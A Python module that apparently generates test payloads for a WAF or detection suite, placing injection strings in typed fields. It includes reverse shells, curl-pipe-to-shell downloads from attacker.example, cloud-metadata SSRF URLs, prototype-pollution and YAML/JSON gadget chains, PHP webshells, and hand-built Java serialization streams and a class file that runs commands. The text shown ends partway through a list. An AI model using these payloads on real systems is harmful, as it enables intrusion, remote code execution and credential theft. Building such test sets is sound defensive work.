"""Blind set "hundredthirtyeighth": injection inside typed fields for the generic (Node.js, SSRF, prototype
pollution, Ruby, Perl, DoS, PHP data scheme), Java and server-side template injection titles, with benign
requests that carry realistic values of the same fields and the same words typed innocently.

The angle: real applications check a typed field loosely (an e-mail address, a phone number, a date or time, a
price or quantity, an id or UUID, a sort key or column, a page number or limit, a language, currency or time zone
code, a file name, a postcode, a colour, a JSON key, a version string, a user agent, a hostname or URL, an opaque
token) and then build code, a lookup, a fetch or a template from it. Each payload is written the way it must look
to pass such a check or to fit its position in the back end: an e-mail whose (quoted) local part carries the
expression, a price or quantity that an eval turns into arithmetic followed by a statement, a date closing a
quoted string, a sort key closing a comparator, a language code naming a Thymeleaf fragment or a data: include,
a currency code opening a template tag, a hostname or avatar URL pointing at the metadata service, a file name
that a two-argument open runs, a remember-me cookie holding a serialization stream. The comment above each list
names the field type and the target it reaches (interpreter, product, template engine, cloud service).

Families and sub-families (the `sub` of each record):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language, java-polymorphic-payloads (XStream, XMLDecoder, fastjson, Jackson), class-loading,
    jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice, each time in a parameter named for its field type. Once to our real
routes (query of /api/users, the /me/settings form with its csrf_token, JSON of PATCH /api/users/42 and its
settings object, XML to /api/users, a cookie, the header that carries that type: User-Agent, Referer, From,
Accept-Language, X-Api-Version, X-Request-Id, X-Forwarded-Host, If-Modified-Since; the /api/users/<id> path for
ids; a multipart field or file name of /admin/users/import), once the way a WAF regression suite sends it
(placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) as a query string, form body, JSON body, XML body, cookie, header, path
segment or parameter name, again under that field's usual names (email, date, price, sort, lang, ...). Whole
documents (fastjson / Jackson JSON, XStream / XMLDecoder XML, prototype-pollution JSON) go as the body; raw
Java serialization streams go percent-encoded (a str body cannot carry bytes); JSP upload names go as multipart
file names.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The Java serialization streams and the class file are assembled here byte by byte (valid, small: a
java.util.Date, an Integer, a Boolean, a String, a HashSet of a String, the URLDNS HashMap, and a class whose
static initialiser calls Runtime.exec). Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
import gzip
import json
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import COOKIE_SAFE, BlindSet, header_safe, request
from .family_gen import _form, _get
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredthirtyeighth"

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams (ObjectOutputStream protocol 2) and a class file, assembled byte by byte
STREAM_MAGIC = b"\xac\xed\x00\x05"


def _short(n: int) -> bytes:
    return struct.pack(">H", n)


def _jstr(text: str) -> bytes:
    """TC_STRING."""
    raw = text.encode()
    return b"\x74" + _short(len(raw)) + raw


def _desc(cls: str, suid: int, flags: int, fields: list[tuple[str, str, str]], parent: bytes = b"\x70") -> bytes:
    """TC_CLASSDESC with its fields (type code, name, class name for objects), no annotations, then the parent."""
    out = b"\x72" + _short(len(cls)) + cls.encode() + struct.pack(">q", suid) + bytes([flags]) + _short(len(fields))
    for code, name, ref in fields:
        out += code.encode() + _short(len(name)) + name.encode() + (_jstr(ref) if ref else b"")
    return out + b"\x78" + parent


NUMBER_DESC = _desc("java.lang.Number", -8742448824652078965, 0x02, [])
SER_DATE = STREAM_MAGIC + b"\x73" + _desc("java.util.Date", 0x686A81014B597419, 0x03, []) \
    + b"\x77\x08" + struct.pack(">q", 1714521600000) + b"\x78"
SER_INT = STREAM_MAGIC + b"\x73" + _desc("java.lang.Integer", 0x12E2A0A4F7818738, 0x02, [("I", "value", "")],
                                          NUMBER_DESC) + struct.pack(">i", 3)
SER_BOOL = STREAM_MAGIC + b"\x73" + _desc("java.lang.Boolean", -3665804199014368530, 0x02, [("Z", "value", "")]) \
    + b"\x01"
SER_STR = STREAM_MAGIC + _jstr("admin@example.com")
SER_SET = STREAM_MAGIC + b"\x73" + _desc("java.util.HashSet", -5024744406713321676, 0x03, []) \
    + b"\x77\x0c" + struct.pack(">ifi", 16, 0.75, 1) + _jstr("ROLE_ADMIN") + b"\x78"


def _urldns(host: str) -> bytes:
    """HashMap{URL: String}: readObject re-hashes the key, the URL's hashCode resolves the host."""
    strref = b"\x71" + struct.pack(">i", 0x7E0003)
    url_fields = [("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", "Ljava/lang/String;")]
    head = STREAM_MAGIC + b"\x73" + _desc("java.util.HashMap", 0x0507DAC1C31660D1, 0x03,
                                          [("F", "loadFactor", ""), ("I", "threshold", "")])
    head += struct.pack(">fi", 0.75, 12) + b"\x77\x08" + struct.pack(">ii", 16, 1)
    desc = _desc("java.net.URL", -7627629688361524110, 0x03, []).replace(b"\x00\x00\x78\x70", b"")
    body = b"".join(c.encode() + _short(len(n)) + n.encode() + (_jstr(r) if r else b"") for c, n, r in url_fields)
    body += b"".join(b"L" + _short(len(n)) + n.encode() + strref for n in ("file", "host", "protocol", "ref"))
    url = desc + _short(7) + body + b"\x78\x70"
    value = struct.pack(">ii", -1, -1) + _jstr(host) + _jstr("/") + _jstr(host) + _jstr("https") + b"\x70\x78"
    return head + b"\x73" + url + value + _jstr("https://" + host + "/") + b"\x78"


SER_URLDNS = _urldns("ser138.oast.attacker.example")


def _class_file(cls: str, command: str, parent: str = "java/lang/Object") -> bytes:
    """A Java 8 class whose <clinit> runs Runtime.getRuntime().exec(command), with a public no-argument
    constructor: what TemplatesImpl (parent AbstractTranslet), defineClass or a URLClassLoader gadget loads."""
    def utf(s: str) -> bytes:
        return b"\x01" + _short(len(s.encode())) + s.encode()
    pool = [b"\x07" + _short(2), utf(cls), b"\x07" + _short(4), utf(parent),
            b"\x07" + _short(6), utf("java/lang/Runtime"), b"\x0a" + _short(5) + _short(8),
            b"\x0c" + _short(9) + _short(10), utf("getRuntime"), utf("()Ljava/lang/Runtime;"),
            b"\x0a" + _short(5) + _short(12), b"\x0c" + _short(13) + _short(14), utf("exec"),
            utf("(Ljava/lang/String;)Ljava/lang/Process;"), b"\x08" + _short(16), utf(command), utf("<clinit>"),
            utf("()V"), utf("Code"), utf("<init>"), b"\x0c" + _short(20) + _short(18),
            b"\x0a" + _short(3) + _short(21)]

    def method(access: int, name: int, locals_: int, code: bytes) -> bytes:
        attr = _short(2) + _short(locals_) + struct.pack(">I", len(code)) + code + _short(0) + _short(0)
        return _short(access) + _short(name) + _short(18) + _short(1) + _short(19) + struct.pack(">I", len(attr)) + attr
    clinit = method(0x08, 17, 0, b"\xb8\x00\x07\x12\x0f\xb6\x00\x0b\x57\xb1")
    init = method(0x01, 20, 1, b"\x2a\xb7\x00\x16\xb1")
    return b"\xca\xfe\xba\xbe" + _short(0) + _short(52) + _short(len(pool) + 1) + b"".join(pool) \
        + _short(0x21) + _short(1) + _short(3) + _short(0) + _short(0) + _short(2) + init + clinit + _short(0)


EXPLOIT_CLASS = _class_file("Exploit", "touch /tmp/pwned138")
TRANSLET_CLASS = _class_file("Pwn138", "curl -s http://attacker.example/t.sh -o /tmp/t.sh",
                             "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet")


def _lat(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode()


def _gz64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is (field type, payload): the field type names the parameter names and the places the value
# is sent (FIELDS below).
Entry = tuple[str, str]

PHP_SHELL = "<?php system($_GET['cmd']); ?>"
PHP_INFO = "<?php phpinfo(); ?>"
NODE_CP = "require('child_process')"

# --- generic ---------------------------------------------------------------------------------------------------
# Node.js 18-22: eval / new Function / vm build code from a typed field (a price or quantity summed by eval, a
# sort key pasted into a comparator, a date or colour inside a quoted literal, a template literal around a name,
# node-serialize reading a remember-me cookie)
NODE_INJECTION: list[Entry] = [
    ("price", "19.99+" + NODE_CP + ".execSync('id').length"),
    ("quantity", "1;process.mainModule.require('child_process').execSync('touch /tmp/q138')"),
    ("sort", "price);" + NODE_CP + ".exec('curl -s http://attacker.example/n.sh|sh');//"),
    ("page", "1,global.process.mainModule.require('child_process').execSync('id')"),
    ("colour", "#fff';" + NODE_CP + ".exec('nc 203.0.113.7 4444 -e /bin/sh');'"),
    ("email", "\"'+" + NODE_CP + ".execSync('id')+'\"@example.com"),
    ("date", "2024-05-01');" + NODE_CP + ".spawnSync('sh',['-c','id']);//"),
    ("version", "1.2.3'+process.mainModule.require('child_process').execFileSync('/usr/bin/id')+'"),
    ("id", "42||require('fs').readFileSync('/etc/passwd','utf8')"),
    ("uuid", "3f2b8c1e-0000-4000-8000-000000000000'+" + NODE_CP + ".execSync('cat /etc/shadow')+'"),
    ("postcode", "90210'+new Function('return process')().mainModule.require('child_process').execSync('id')+'"),
    ("phone", "+15550100'+eval(\"require('child_process').execSync('id')\")+'"),
    ("lang", "en');require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")//"),
    ("currency", "USD'+import('child_process').then(m=>m.execSync('id'))+'"),
    ("timezone", "UTC');process.env.NODE_OPTIONS='--require /tmp/evil.js';" + NODE_CP + ".fork('x');//"),
    ("hostname", "example.com');" + NODE_CP + ".spawn('/bin/sh',['-c','id>/tmp/h138']);//"),
    ("user-agent", "Mozilla/5.0 '+" + NODE_CP + ".execSync('uname -a')+'"),
    ("username", "Ann ${process.mainModule.require('child_process').execSync('id')}"),
    ("sort", "name,this.constructor.constructor('return process')().mainModule.require('child_process')"
             ".execSync('id')"),
    ("token", _b64('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'nc -e /bin/sh '
                   '203.0.113.7 4444\')}()","email":"ann@example.com"}')),
]
# Node.js event loop: a number or date that eval runs (loops, huge allocations, Atomics.wait), a search filter
# that becomes new RegExp() (catastrophic backtracking patterns)
NODE_DOS: list[Entry] = [
    ("price", "9.99;while(true){}"),
    ("quantity", "1;for(;;){}"),
    ("page", "1,Array(1e9).fill('x')"),
    ("date", "2024-01-01');while(1);//"),
    ("colour", "#000'+'A'.repeat(2**29)+'"),
    ("sort", "name');for(;;);//"),
    ("id", "42;Buffer.alloc(2**31-1)"),
    ("page", "50;new Array(2**32-1).join('A')"),
    ("version", "1.0.0';Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0);'"),
    ("timezone", "UTC');(function f(){f()})();//"),
    ("currency", "EUR';new Promise(()=>{for(;;);});'"),
    ("quantity", "2;JSON.parse('['.repeat(1e7))"),
    ("uuid", "00000000-0000-4000-8000-000000000000';process.abort();'"),
    ("filter", "(a+)+$"),
    ("filter", "^(([a-z])+.)+[A-Z]([a-z])+$"),
    ("filter", "(x+x+)+y"),
    ("filter", "([a-zA-Z0-9]+)*@example\\.com$"),
    ("filter", "(\\w+\\s?)*$"),
    ("filter", "(.*a){25}"),
    ("filter", "^(a|aa)+$"),
]
# SSRF to cloud metadata services through a typed URL or host field the server fetches or connects to (avatar and
# webhook URLs, an SMTP host, an e-mail domain literal): AWS IMDS v1/v2 and IPv6, GCP, Azure, Alibaba,
# DigitalOcean, Oracle, OpenStack, Hetzner, Tencent, ECS task credentials
SSRF_METADATA: list[Entry] = [
    ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("url", "http://169.254.169.254/latest/user-data"),
    ("url", "http://[fd00:ec2::254]/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance"),
    ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/s3-role#avatar.png"),
    ("url", "https://cdn.example.com@169.254.169.254/latest/dynamic/instance-identity/document"),
    ("url", "http://2852039166/latest/meta-data/"),
    ("url", "http://0xa9fea9fe/latest/meta-data/hostname"),
    ("url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/public-keys/"),
    ("url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("url", "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json"),
    ("url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("url", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
            "&resource=https://management.azure.com/"),
    ("url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("url", "http://169.254.169.254/metadata/v1.json"),
    ("url", "http://169.254.169.254/opc/v2/instance/"),
    ("url", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("url", "http://169.254.170.2/v2/credentials/"),
    ("hostname", "169.254.169.254"),
    ("hostname", "metadata.tencentyun.com"),
    ("email", "ops@[169.254.169.254]"),
]
# SSRF to internal hosts through the same fields: loopback in decimal, octal, hex, short and IPv6 forms, the
# stack's own ports (Redis, PostgreSQL, TokenDealer, metrics), Docker and Kubernetes APIs, file://, gopher://
# (Redis commands), dict://, ldap://, an e-mail domain literal, a host field given to a connect()
SSRF_INTERNAL: list[Entry] = [
    ("url", "http://2130706433:5001/oauth/token"),
    ("url", "http://017700000001:6380/"),
    ("url", "http://0x7f.0x0.0x0.0x1:9145/metrics"),
    ("url", "http://127.1:5433/"),
    ("url", "http://0/admin/"),
    ("url", "http://[::]:5000/api/users"),
    ("url", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("url", "http://127.0.0.1.nip.io:5000/admin/clients"),
    ("url", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"),
    ("url", "file:///etc/passwd"),
    ("url", "gopher://127.0.0.1:6380/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename"
            "%20root%0D%0ASAVE%0D%0A"),
    ("url", "dict://127.0.0.1:11211/stats"),
    ("url", "ldap://localhost:389/%0astats%0aquit"),
    ("url", "http://172.17.0.1:2375/containers/json?all=1"),
    ("url", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("url", "http://192.168.0.1/cgi-bin/luci/;stok=/locale"),
    ("url", "http://10.0.0.1:8500/v1/agent/self"),
    ("hostname", "0x7f000001"),
    ("hostname", "localhost:6380"),
    ("email", "postmaster@[IPv6:::1]"),
]
# prototype pollution (Node.js qs / body-parser / lodash merge / set): a JSON key or a bracketed parameter name
# of a typed object (settings, filter, sort), with the gadgets that turn it into code (EJS outputFunctionName,
# child_process shell / NODE_OPTIONS, Pug block, express json spaces)
POLLUTION: list[Entry] = [
    ("json-key", "settings[__proto__][is_admin]=true"),
    ("json-key", "filter[constructor][prototype][role]=admin"),
    ("json-key", "__proto__.units=metric&__proto__.isAdmin=1"),
    ("json-key", "sort[__proto__][outputFunctionName]=x;process.mainModule.require('child_process')"
                 ".execSync('id');s"),
    ("json-key", "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process')"
                 ".execSync('id').toString())//&__proto__[NODE_OPTIONS]=--require /proc/self/cmdline"),
    ("json-key", "__proto__[json spaces]=10"),
    ("json-key", "constructor.prototype.isAdmin=true"),
    ("json-key", "fields[__proto__][exposedHeaders]=X-Pwned"),
    ("json-key", "page[__proto__][status]=510"),
    ("json-key", "__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process')"
                 ".execSync('id')"),
    ("json-doc", '{"settings":{"__proto__":{"is_admin":true}}}'),
    ("json-doc", '{"timezone":"UTC","__proto__":{"outputFunctionName":"_t;global.process.mainModule'
                 '.require(\'child_process\').execSync(\'id\');var _u"}}'),
    ("json-doc", '{"constructor":{"prototype":{"role":"admin"}}}'),
    ("json-doc", '{"sort":{"field":"name","__proto__":{"polluted":"yes"}}}'),
    ("json-doc", '{"currency":"EUR","__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=203.0.113.7:9229"}}'),
    ("json-doc", '{"\\u005f_proto__":{"isAdmin":true},"email":"ann@example.com"}'),
    ("json-doc", '{"filter":{"constructor":{"prototype":{"allowedTags":["script"]}}}}'),
    ("json-doc", '{"user":{"__proto__":{"client":true,"escapeFunction":"1;return process.mainModule'
                 '.require(\'child_process\').execSync(\'id\')"}}}'),
    ("json-doc", '{"page":1,"__proto__":{"type":"Program","body":[{"type":"MustacheStatement",'
                 '"path":0,"params":[{"type":"NumberLiteral","value":"process.mainModule.require('
                 '\'child_process\').execSync(\'id\')"}],"loc":{"start":0,"end":0}}]}}'),
    ("json-doc", '[{"__proto__":{"isAdmin":true}},{"name":"Ann"}]'),
]
# Ruby (MRI 3.x, Rails): a price or quantity that eval sums, a date or name inside an interpolated string, a file
# name or URL given to Kernel#open / open-uri (a leading pipe runs a command), a sort key given to send, YAML.load
# of a settings field
RUBY: list[Entry] = [
    ("price", "9.99;system('id')"),
    ("quantity", "1;`id`"),
    ("date", "2024-05-01\"); system(\"id\"); (\""),
    ("username", "Ann #{`cat /etc/passwd`}"),
    ("email", "\"#{%x(id)}\"@example.com"),
    ("filename", "|id"),
    ("filename", "|curl -s http://attacker.example/r.sh|sh;#report.pdf"),
    ("url", "|nc 203.0.113.7 4444 -e /bin/sh"),
    ("sort", "name;Kernel.exec('id')"),
    ("page", "1;IO.popen('id').read"),
    ("colour", "#fff'+Open3.capture2('id')[0]+'"),
    ("currency", "EUR'.tap{|_|Process.spawn('id')}+'"),
    ("lang", "en\";File.read('/etc/passwd');\""),
    ("timezone", "UTC';Object.const_get('Kernel').system('id');'"),
    ("version", "1.2.3'.then{__send__(:eval,'system(\"id\")')}+'"),
    ("id", "42;instance_eval('`id`')"),
    ("postcode", "SW1A 1AA'+Kernel.open('|id').read+'"),
    ("hostname", "example.com`id`"),
    ("config", "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n"
               "  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:"
               "Gem::StubSpecification\n      loaded_from: \"|id 1>&2\"\n"),
    ("config", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
               "? ! \"foo; system('id'); @executed = true; foo\"\n: !ruby/struct\n  defaults: {}\n"),
]
# Perl 5: a file name given to a two-argument open (a pipe at either end runs it), a price or date that eval
# runs, a name or e-mail inside an interpolated string (@{[ ]} and ${\ }), a search pattern with (?{ })
PERL: list[Entry] = [
    ("filename", "id|"),
    ("filename", "|/bin/sh -c 'id'"),
    ("filename", "report.pdf;nc 203.0.113.7 4444 -e /bin/sh|"),
    ("filename", "> /var/www/cgi-bin/x.pl"),
    ("price", "9.99;system 'id'"),
    ("quantity", "1;qx{id}"),
    ("date", "2024-05-01\"; exec('/bin/sh'); \""),
    ("username", "Ann @{[system 'id']}"),
    ("email", "x@{[`id`]}.example.com"),
    ("postcode", "10115${\\ system('id')}"),
    ("sort", "name} ; system('id'); {"),
    ("colour", "#fff'.qx{cat /etc/passwd}.'"),
    ("filter", "(?{system('id')})"),
    ("page", "1;eval{system 'id'}"),
    ("lang", "en';do '/tmp/x.pl';'"),
    ("version", "1.2.3';require '/tmp/evil.pm';'"),
    ("currency", "EUR'.readpipe('id').'"),
    ("timezone", "UTC';open(my $f,'|id');'"),
    ("id", "42;print `cat /etc/shadow`"),
    ("hostname", "example.com;use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
                 "connect(S,sockaddr_in(4444,inet_aton('203.0.113.7')));open(STDIN,'>&S');exec('/bin/sh -i');"),
]
# PHP 7/8: a language, theme, currency or template name that include() / file_get_contents() opens
# (allow_url_include on): data: streams carrying PHP code, plain, base64 and percent-encoded, behind php://filter
PHP_DATA: list[Entry] = [
    ("lang", "data://text/plain;base64," + _b64(PHP_SHELL)),
    ("lang", "data:text/plain,<?php phpinfo();?>"),
    ("filename", "data://text/plain," + PHP_SHELL),
    ("filename", "data:;base64," + _b64("<?=`id`?>")),
    ("url", "data://image/png;base64," + _b64(PHP_INFO)),
    ("url", "data:text/html;charset=utf-8;base64," + _b64("<?php echo shell_exec('cat /etc/passwd'); ?>")),
    ("colour", "DATA://TEXT/PLAIN;BASE64," + _b64(PHP_SHELL)),
    ("currency", "data:application/x-httpd-php;base64," + _b64("<?php passthru('id'); ?>")),
    ("lang", "data:text/plain,%3C%3Fphp%20system%28%27id%27%29%3B%3F%3E"),
    ("filename", "php://filter/convert.base64-decode/resource=data://text/plain," + _b64(PHP_SHELL)),
    ("lang", "data://text/plain;charset=utf-8;base64," + _b64("<?php eval($_POST['x']); ?>")),
    ("timezone", "data://text/plain," + PHP_INFO),
    ("version", "data:text/plain;base64," + _b64("<?php file_put_contents('s.php','<?php system($_GET[0]);');")),
    ("filename", "data://,<?php echo `whoami`;?>"),
    ("url", "data:text/plain;base64," + _b64("<?php $s=fsockopen('203.0.113.7',4444);"
                                             "exec('/bin/sh -i <&3 >&3 2>&3'); ?>")),
    ("lang", "data:text/plain;base64," + _b64("<?php readfile('/etc/passwd'); ?>") + "&lang=en"),
    ("filename", "data:text/x-php,<?php system('ls -la'); ?>"),
    ("colour", "data://text/plain;base64," + _b64("<?php var_dump(getenv()); ?>")),
    ("currency", "data:,<?=system($_REQUEST[1])?>"),
    ("url", "data://text/plain;base64," + _b64("<?php include('http://attacker.example/s.txt'); ?>")),
]
# --- java --------------------------------------------------------------------------------------------------------
RT = "java.lang.Runtime.getRuntime()"
LDAP = "ldap://attacker.example:1389/"
# Java-side evaluators fed a typed field (Nashorn / Rhino / GraalJS pricing rules, Groovy and BeanShell sort and
# filter scripts, JShell): the RCE classes named outright (Runtime, ScriptEngineManager, ClassLoader, System)
JAVA_CLASS_NAMES: list[Entry] = [
    ("price", "19.99+" + RT + ".exec('id').waitFor()"),
    ("quantity", "1;Java.type('java.lang.Runtime').getRuntime().exec('touch /tmp/j138')"),
    ("sort", "name;new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval(\"" + RT + ".exec('id')\")"),
    ("date", "2024-05-01\");java.lang.System.exit(0);//"),
    ("colour", "#fff'+new java.util.Scanner(" + RT + ".exec('id').getInputStream()).useDelimiter('\\\\A').next()+'"),
    ("page", "1;java.lang.Thread.currentThread().getContextClassLoader().loadClass('java.lang.Runtime')"),
    ("email", "\"'+" + RT + ".exec('id')+'\"@example.com"),
    ("id", "42;new java.io.FileInputStream('/etc/passwd').readAllBytes()"),
    ("currency", "EUR\"+java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"
                 ".exec(\"id\")+\""),
    ("lang", "en';new javax.script.ScriptEngineManager(java.lang.ClassLoader.getSystemClassLoader())"
             ".getEngineByExtension('js').eval('1');'"),
    ("version", "1.0\";new bsh.Interpreter().eval(\"java.lang.Runtime.getRuntime().exec(\\\"id\\\")\");\""),
    ("timezone", "UTC\"+java.lang.Runtime.runtime.exec(\"id\").text+\""),
    ("postcode", "10115\"+jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")+\""),
    ("hostname", "example.com\";java.net.InetAddress.getByName(java.lang.System.getProperty(\"user.name\")"
                 "+\".x.attacker.example\");\""),
    ("username", "Ann'+java.lang.System.getProperties()+'"),
    ("uuid", "00000000-0000-4000-8000-000000000000\"+Packages.java.lang.Runtime.getRuntime().exec(\"id\")+\""),
    ("phone", "+15550100';java.lang.Runtime.getRuntime().halt(0);'"),
    ("filter", "name.contains(java.lang.Runtime.getRuntime().exec('id').toString())"),
]
# process spawn from the same evaluators: ProcessBuilder, Runtime.exec with argument arrays, Groovy
# String.execute(), the exec-string tricks (brace expansion, base64) a Runtime.exec(String) needs
JAVA_SPAWN: list[Entry] = [
    ("filename", "report.pdf\";new ProcessBuilder(\"sh\",\"-c\",\"id\").start();\""),
    ("price", "9.99;new java.lang.ProcessBuilder(['bash','-c','curl http://attacker.example/j.sh|bash']).start()"),
    ("quantity", "1;'id'.execute().text"),
    ("sort", "name;['sh','-c','id'].execute()"),
    ("date", "2024-05-01\");Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"});//"),
    ("hostname", "example.com\";Runtime.getRuntime().exec(\"bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}\");\""),
    ("colour", "#fff');Runtime.getRuntime().exec(\"cmd.exe /c whoami\");//"),
    ("id", "42;new ProcessBuilder(\"powershell\",\"-enc\",\""
           + base64.b64encode("whoami".encode("utf-16-le")).decode() + "\").inheritIO().start()"),
    ("lang", "en';new java.lang.ProcessBuilder(\"nc\",\"203.0.113.7\",\"4444\",\"-e\",\"/bin/sh\").start();'"),
    ("version", "1.0\"+new String(new ProcessBuilder(\"id\").redirectErrorStream(true).start().getInputStream()"
                ".readAllBytes())+\""),
    ("currency", "EUR';Runtime.getRuntime().exec(\"touch /tmp/pwn\").waitFor();'"),
    ("uuid", "00000000-0000-4000-8000-000000000000';new ProcessBuilder().command(\"id\").start();'"),
    ("email", "\"'+new ProcessBuilder('id').start()+'\"@example.com"),
    ("user-agent", "Mozilla/5.0 \";Runtime.getRuntime().exec(\"wget http://attacker.example/x -O /tmp/x\");\""),
    ("page", "1;def p='id'.execute();p.waitFor();p.text"),
    ("timezone", "UTC\";String[] c={\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"};"
                 "Runtime.getRuntime().exec(c);\""),
    ("postcode", "10115\";\"cat /etc/passwd\".execute().text;\""),
    ("phone", "+15550100\";new java.lang.ProcessBuilder(\"/bin/sh\",\"-c\",\"id\").inheritIO().start().waitFor();\""),
]
# ObjectInputStream reading a remember-me cookie, a "state" field or an API token: the streams raw (sent
# percent-encoded), in Base64, Base64url, hex and gzip+Base64, and percent-encoded inside the field itself
JAVA_SERIALIZATION: list[Entry] = [
    ("ser", _lat(SER_DATE)),
    ("ser", _lat(SER_INT)),
    ("ser", _lat(SER_BOOL)),
    ("ser", _lat(SER_STR)),
    ("ser", _lat(SER_SET)),
    ("ser", _lat(SER_URLDNS)),
    ("token", _b64(SER_DATE)),
    ("token", _b64(SER_INT)),
    ("token", _b64(SER_BOOL)),
    ("token", _b64(SER_STR)),
    ("token", _b64(SER_SET)),
    ("token", _b64(SER_URLDNS)),
    ("token", base64.urlsafe_b64encode(SER_URLDNS).decode().rstrip("=")),
    ("token", SER_URLDNS.hex()),
    ("token", SER_SET.hex().upper()),
    ("token", _gz64(SER_URLDNS)),
    ("token", _gz64(SER_SET)),
    ("token", urllib.parse.quote(SER_SET.decode("latin-1").encode("latin-1"), safe="")),
]
TPL = "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"
CC4 = "org.apache.commons.collections4."
CC3 = "org.apache.commons.collections.functors."
TPL_XML = (f"<{TPL} serialization=\"custom\"><{TPL}><default><__name>Pwn138</__name><__bytecodes><byte-array>"
           f"{_b64(TRANSLET_CLASS)}</byte-array></__bytecodes><__transletIndex>-1</__transletIndex>"
           f"<__indentNumber>0</__indentNumber></default><boolean>false</boolean></{TPL}></{TPL}>")
JNDI_FACTORY = '["org.springframework.jndi.support.SimpleJndiBeanFactory",{"shareableResources":["' + LDAP + 'sp"]}]'
# gadget chains in a typed property of a text format the server binds to objects: SnakeYAML (a settings YAML
# field), Jackson default typing and XStream (a price, sort or date property): commons-collections 3/4,
# Spring, Groovy, JDK 7u21, c3p0, ROME, Hibernate, commons-configuration, xbean
JAVA_GADGETS: list[Entry] = [
    ("config", "units: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
               "[\"http://attacker.example/yaml.jar\"]]]]"),
    ("config", "timezone: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"" + LDAP + "Exploit\", autoCommit: true}"),
    ("config", "!!org.springframework.context.support.FileSystemXmlApplicationContext "
               "[\"http://attacker.example/beans.xml\"]"),
    ("config", "!!org.apache.commons.configuration.ConfigurationMap [!!org.apache.commons.configuration"
               ".JNDIConfiguration [!!javax.naming.InitialContext [], \"" + LDAP + "cfg\"]]"),
    ("config", "!!com.mchange.v2.c3p0.WrapperConnectionPoolDataSource {userOverridesAsString: "
               "\"HexAsciiSerializedMap:" + SER_SET.hex() + ";\"}"),
    ("config", "!!org.apache.xbean.propertyeditor.JndiConverter {asText: \"" + LDAP + "xbean\"}"),
    ("config", "!!org.springframework.beans.factory.config.PropertyPathFactoryBean {targetBeanName: \""
               + LDAP + "pp\", propertyPath: foo, beanFactory: !!org.springframework.jndi.support"
               ".SimpleJndiBeanFactory {shareableResources: [\"" + LDAP + "pp\"]}}"),
    ("json-doc", '{"price":["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":'
                 '"HexAsciiSerializedMap:' + SER_URLDNS.hex() + ';"}]}'),
    ("json-doc", '{"quantity":["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"' + LDAP + 'c3",'
                 '"loginTimeout":0}]}'),
    ("json-doc", '{"sort":["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"'
                 + LDAP + 'sp","propertyPath":"foo","beanFactory":' + JNDI_FACTORY + '}]}'),
    ("json-doc", '{"date":["org.springframework.aop.config.MethodLocatingFactoryBean",{"targetBeanName":"'
                 + LDAP + 'sp","methodName":"x","beanFactory":' + JNDI_FACTORY + '}]}'),
    ("json-doc", '{"currency":["org.apache.commons.configuration.JNDIConfiguration",{"prefix":"' + LDAP + 'cf"}]}'),
